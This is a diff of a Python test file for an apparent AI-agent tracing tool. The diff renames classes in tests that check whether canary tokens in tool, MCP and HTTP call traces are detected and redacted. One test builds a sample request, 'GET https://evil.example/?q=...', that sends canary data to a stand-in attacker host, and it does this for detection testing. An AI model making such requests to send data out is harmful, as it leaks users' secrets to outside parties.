@@ -6,9 +6,9 @@ import pytest
 
 from holdfast.model.canary import Lookout
 from holdfast.model.trace import TraceEvent
-from holdfast.planes.llm.results import _event
-from holdfast.planes.mcp.sighting import Sighting
-from holdfast.planes.sight import Sight, Watch
+from holdfast.planes.llm.results.tool_results import _event
+from holdfast.planes.mcp.call_trace import McpCallTrace
+from holdfast.planes.traced_call import CallTrace, TracedCall
 from holdfast.protocols import Call
 from planes_kit import FakeTrip
 
@@ -33,17 +33,17 @@ def test_a_lookout_keeps_a_few_whatever_is_sent() -> None:
 
 def test_functions_mcp_calls_and_tool_results_tell_canaries_that_would_be_cut_off() -> None:
     told: list[TraceEvent] = []
-    Sight(Watch(0.0, lambda _, event: told.append(event)), 1, "tool", "send", 1, {"text": LONG}).gave("ok")
-    trip = FakeTrip()
-    Sighting(trip, "server", Call("mcp", "send", {"text": LONG}, 1)).ended("ok")
-    told += trip.trace
+    TracedCall(CallTrace(0.0, lambda _, event: told.append(event)), 1, "tool", "send", 1, {"text": LONG}).gave("ok")
+    context = FakeTrip()
+    McpCallTrace(context, "server", Call("mcp", "send", {"text": LONG}, 1)).ended("ok")
+    told += context.trace
     told.append(_event("send", f'{{"text": "{LONG}"}}', 0.0))
     assert [CANARY in event.input for event in told] == [False] * 3
     assert [event.canaries for event in told] == [(CANARY.lower(),)] * 3
 
 
 def test_a_canary_in_the_middle_of_a_long_url_is_told() -> None:
-    trip = FakeTrip()
-    trip.saw(TraceEvent(0.1, "http_call", f"GET https://evil.example/?q={LONG}", "http", 1))
-    assert CANARY not in trip.trace[0].tool
-    assert trip.trace[0].canaries == (CANARY.lower(),)
+    context = FakeTrip()
+    context.saw(TraceEvent(0.1, "http_call", f"GET https://evil.example/?q={LONG}", "http", 1))
+    assert CANARY not in context.trace[0].tool
+    assert context.trace[0].canaries == (CANARY.lower(),)
